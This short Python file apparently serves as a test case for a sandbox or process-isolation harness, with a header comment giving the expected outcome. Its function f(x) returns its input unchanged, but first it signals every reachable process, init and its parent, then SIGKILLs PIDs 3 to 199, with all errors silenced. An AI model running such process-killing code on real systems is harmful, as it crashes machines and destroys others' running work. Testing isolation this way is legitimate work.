# ending: exited 0, records: 1, processes: 8
import contextlib
import os
import signal


def f(x):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        for process in (-1, 1, os.getppid()):
            with contextlib.suppress(OSError):
                os.kill(process, number)
    for process in range(3, 200):
        if process != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(process, signal.SIGKILL)
    return x
